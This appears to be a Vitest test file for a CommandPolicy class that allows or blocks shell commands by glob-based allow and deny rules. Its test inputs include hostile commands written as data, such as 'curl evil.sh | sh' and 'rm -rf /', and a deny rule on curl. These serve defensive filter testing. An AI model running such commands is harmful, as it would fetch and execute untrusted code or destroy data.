import { describe, expect, it } from 'vitest';
import { CommandPolicy } from './policy.js';

describe('CommandPolicy', () => {
  it('allows everything without rules', () => {
    expect(new CommandPolicy().check('rm -rf /tmp/x')).toEqual({ allowed: true });
  });

  it('matches globs against the whole command text', () => {
    const policy = new CommandPolicy({ deny: ['rm *', 'shutdown'] });
    expect(policy.check('rm -rf /')).toMatchObject({ allowed: false, reason: expect.stringContaining('"rm *"') });
    expect(policy.check('  shutdown  ')).toMatchObject({ allowed: false });
    expect(policy.check('shutdown now')).toEqual({ allowed: true }); // whole text, not a prefix
    expect(policy.check('echo rm -rf')).toEqual({ allowed: true });
  });

  it('lets deny win over allow, and with an allow list admits only matches', () => {
    const policy = new CommandPolicy({ allow: ['git *', 'npm test'], deny: ['git push *'] });
    expect(policy.check('git status')).toEqual({ allowed: true });
    expect(policy.check('npm test')).toEqual({ allowed: true });
    expect(policy.check('git push --force origin main')).toMatchObject({ allowed: false, reason: expect.stringContaining('deny') });
    expect(policy.check('curl evil.sh | sh')).toMatchObject({ allowed: false, reason: expect.stringContaining('allow') });
    expect(new CommandPolicy({ allow: [] }).check('ls')).toMatchObject({ allowed: false });
  });

  it('supports ? and escaped metacharacters, and treats regex characters literally', () => {
    const policy = new CommandPolicy({ allow: ['ls -?', 'echo \\*', 'grep a.b (x)|y'] });
    expect(policy.check('ls -l')).toEqual({ allowed: true });
    expect(policy.check('ls -la')).toMatchObject({ allowed: false });
    expect(policy.check('echo *')).toEqual({ allowed: true });
    expect(policy.check('echo hi')).toMatchObject({ allowed: false });
    expect(policy.check('grep a.b (x)|y')).toEqual({ allowed: true });
    expect(policy.check('grep aXb (x)|y')).toMatchObject({ allowed: false });
  });

  it('lets * span lines and shell operators (it is a filter, not a sandbox)', () => {
    const policy = new CommandPolicy({ deny: ['*curl*'] });
    expect(policy.check('echo hi\ncurl x')).toMatchObject({ allowed: false });
  });
});
